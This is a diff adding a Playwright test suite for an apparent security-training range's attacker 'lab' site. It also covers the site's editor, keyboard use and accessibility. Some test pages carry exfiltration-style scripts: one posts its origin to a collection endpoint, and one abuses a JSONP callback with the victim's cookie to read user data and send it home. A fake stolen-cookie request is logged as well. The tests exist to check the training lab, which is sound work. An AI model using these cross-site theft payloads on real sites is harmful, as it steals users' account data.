@@ -1,0 +1,220 @@
+import { readFileSync } from 'node:fs'
+import { createRequire } from 'node:module'
+import type { AxeResults } from 'axe-core'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { launchBrowser, newVisitor, scrollsSideways, type Visitor, WIDTHS } from '../support/browser.ts'
+import { type OpenRange, openRange } from '../support/open-range.ts'
+
+const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')
+
+let browser: Browser
+let range: OpenRange
+let lab: string
+let visitor: Visitor
+let page: Page
+beforeAll(async () => {
+  browser = await launchBrowser()
+})
+afterAll(() => browser.close())
+beforeEach(async () => {
+  range = await openRange()
+  const { origin } = (await (await fetch(`${range.url}/range/lab/info`)).json()) as { origin: string }
+  lab = `${origin}/range/lab`
+  visitor = await newVisitor(browser, range.url)
+  page = visitor.page
+})
+afterEach(async () => {
+  expect(visitor.complaints).toEqual([])
+  await visitor.context.close()
+  await range[Symbol.asyncDispose]()
+})
+
+const editor = () => page.locator('textarea')
+
+/** Writes a page as a learner does, and saves it. */
+async function write(name: string, html: string): Promise<void> {
+  await page.goto(`${lab}/pages/new`)
+  await page.locator('#name').fill(name)
+  await editor().fill(html)
+  await page.locator('button.main').click()
+  await page.getByRole('status').waitFor()
+}
+
+/** Signs somebody in, so that the browser has the shop's cookie. */
+async function signIn(): Promise<void> {
+  await page.goto(`${range.url}/#/login`)
+  await page.locator('#email').fill('demo')
+  await page.locator('#password').fill('demo')
+  await page.locator('#password').press('Enter')
+  await page.waitForURL(/#\/search/)
+}
+
+describe('the outside world', () => {
+  it('is in the side menu, and another origin', async () => {
+    await page.goto(`${range.url}/#/search`)
+    await page.locator('[aria-label="Open Sidenav"]').click()
+    const [opened] = await Promise.all([
+      visitor.context.waitForEvent('page'),
+      page.getByRole('link', { name: 'Outside world' }).click(),
+    ])
+    await opened.waitForLoadState()
+    expect(opened.url()).toBe(`${lab}/`)
+    expect(new URL(lab).origin).not.toBe(range.url)
+    expect(await opened.locator('h1').textContent()).toBe('Welcome to Café Loopback')
+    await opened.getByRole('link', { name: 'Back to' }).click()
+    await opened.waitForURL(`${range.url}/**`)
+  })
+
+  it('hosts a page that sends something home, and shows the visit while one watches', async () => {
+    await write(
+      'spy',
+      `<title>spy</title><script>fetch('../in/told', { method: 'POST', body: 'from ' + origin })</script>`,
+    )
+    await page.goto(`${lab}/visits/`)
+    expect(await page.locator('.visits > li').count()).toBe(0)
+    const victim = await visitor.context.newPage()
+    await victim.goto(`${lab}/p/spy`)
+    await page.bringToFront()
+    await expect.poll(() => page.locator('.visits > li').count()).toBe(2)
+    const told = page.locator('.visits > li').first()
+    await told.locator('summary').click()
+    expect(await told.locator('pre').textContent()).toBe(`from ${new URL(lab).origin}`)
+    // What is open stays open when the next one comes.
+    await fetch(`${lab}/in/more`)
+    await expect.poll(() => page.locator('.visits > li').count()).toBe(3)
+    expect(await page.locator('.visits details[open] pre').textContent()).toBe(`from ${new URL(lab).origin}`)
+    await page.getByText('Clear the list').first().click()
+    await page.getByRole('button', { name: 'Clear the list' }).click()
+    await page.getByText('Nobody came by.').waitFor()
+  })
+
+  it('is a neighbour: the shop’s cookie goes along with a form and a script from there, and nothing can be read', async () => {
+    await signIn()
+    await write(
+      'neighbour',
+      `<title>neighbour</title><script>
+        function got(data) { fetch('../in/script', { method: 'POST', body: JSON.stringify(data) }) }
+        fetch('${range.url}/rest/user/whoami', { credentials: 'include' })
+          .then((reply) => reply.text(), () => 'refused').then((text) => fetch('../in/read', { method: 'POST', body: text }))
+      </script>
+      <script src="${range.url}/rest/user/whoami?callback=got"></script>`,
+    )
+    await page.goto(`${lab}/p/neighbour`)
+    const received = async (path: string): Promise<string | undefined> => {
+      const reply = await fetch(`${lab}/visits/`, { headers: { accept: 'application/json' } })
+      const { visits } = (await reply.json()) as { visits: { url: string; body: string }[] }
+      return visits.find(({ url }) => url.endsWith(path))?.body
+    }
+    await expect.poll(() => received('/script')).toContain('demo')
+    await expect.poll(() => received('/read')).toBe('refused')
+  })
+
+  it('without a port of its own keeps pages in a sandbox', async () => {
+    await using single = await openRange({ LAB_PORT: 'none' })
+    lab = `${single.url}/range/lab`
+    await write(
+      'spy',
+      `<title>spy</title><script>fetch('../in/told', { method: 'POST', body: 'from ' + origin })</script>`,
+    )
+    await page.goto(`${lab}/p/spy`)
+    await page.goto(`${lab}/visits/`)
+    await expect.poll(() => page.locator('.visits > li').count()).toBe(2)
+    await page.locator('.visits summary').first().click()
+    expect(await page.locator('.visits pre').first().textContent()).toBe('from null')
+  })
+
+  it('keeps what was typed, counts it and asks before it is left', async () => {
+    await write('mine', 'first')
+    await editor().fill('ä'.repeat(40_000))
+    expect(await page.locator('#size').textContent()).toBe('80,000 of 65536 bytes')
+    await page.locator('button.main').click()
+    expect(await page.locator('textarea:invalid').count()).toBe(1)
+    await editor().fill('second')
+    const asked = new Promise<string>((resolve) => {
+      page.once('dialog', (dialog) => {
+        resolve(dialog.type())
+        void dialog.dismiss()
+      })
+    })
+    await page.getByRole('link', { name: 'All pages' }).click({ noWaitAfter: true })
+    expect(await asked).toBe('beforeunload')
+    expect(await editor().inputValue()).toBe('second')
+    await page.locator('button.main').click()
+    await page.getByRole('status').waitFor()
+    expect(await (await fetch(`${lab}/p/mine`)).text()).toBe('second')
+  })
+
+  it('works by keyboard alone', async () => {
+    await page.goto(`${lab}/`)
+    await page.keyboard.press('Tab')
+    expect(await page.locator(':focus').textContent()).toBe('Skip to the content')
+    await page.keyboard.press('Enter')
+    await page.keyboard.press('Tab')
+    expect(await page.locator(':focus').textContent()).toContain('Mailbox')
+    await page.goto(`${lab}/web/`)
+    await page.locator('#q').focus()
+    await page.keyboard.type('enterprise')
+    await page.keyboard.press('Enter')
+    await page.waitForURL(/\?q=enterprise/)
+    await page.locator('.results a').first().focus()
+    await page.keyboard.press('Enter')
+    await page.locator('.browser h1').waitFor()
+  })
+})
+
+describe('accessibility of the outside world', () => {
+  for (const [width, night] of [
+    [WIDTHS.phone, false],
+    [WIDTHS.desk, true],
+  ] as const) {
+    it(`holds on every page at ${width} px by ${night ? 'night' : 'day'}`, async () => {
+      await write('mine', '<h1>Hi</h1>')
+      await fetch(`${lab}/in/?cookie=token%3D${'x'.repeat(600)}`)
+      await fetch(`${range.url}/api/Users`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ email: 'ann@example.org', password: 'lemonade', passwordRepeat: 'lemonade' }),
+      })
+      const reader = await newVisitor(browser, range.url, { width, night })
+      const found: string[] = []
+      for (const path of await everyPage()) {
+        await reader.page.goto(`${lab}/${path}`)
+        await reader.page.locator('h1').waitFor()
+        if (path === 'visits/') await reader.page.locator('.visits summary').first().click()
+        else if (await reader.page.locator('.sure > summary').count())
+          await reader.page.locator('.sure > summary').first().click()
+        if (await scrollsSideways(reader.page)) found.push(`${path}: scrolls sideways`)
+        await reader.page.evaluate(AXE)
+        const { violations } = await reader.page.evaluate<AxeResults>(
+          `axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] })`,
+        )
+        for (const { id, nodes } of violations)
+          found.push(`${path}: ${id} ${nodes.map(({ target }) => target.join(' '))}`)
+      }
+      expect(found).toEqual([])
+      expect(reader.complaints).toEqual([])
+      await reader.context.close()
+    }, 180_000)
+  }
+
+  /** Addresses below the lab's: its own pages, and the front and one page of every site. */
+  async function everyPage(): Promise<string[]> {
+    const own = ['', 'mail/', 'mail/2', 'pages/', 'pages/new?template=script', 'pages/edit/mine', 'visits/', 'nothing']
+    const web = ['web/', 'web/?q=password', 'web/?q=qqqq']
+    const sites = [...(await links('web/')).filter((link) => /^\.\.\/web\/[\w-]+\/$/.test(link))].map((link) =>
+      link.slice(3),
+    )
+    const pages = await Promise.all(
+      sites.map(async (site) =>
+        (await links(site)).find((link) => link.startsWith(`../../${site}`) && !link.endsWith('/')),
+      ),
+    )
+    return [...own, ...web, ...sites, ...pages.flatMap((link) => (link ? [link.slice(6)] : []))]
+  }
+
+  async function links(path: string): Promise<string[]> {
+    const html = await (await fetch(`${lab}/${path}`, { headers: { accept: 'text/html' } })).text()
+    return [...html.matchAll(/href="([^"]*)"/g)].map(([, link = '']) => link)
+  }
+})
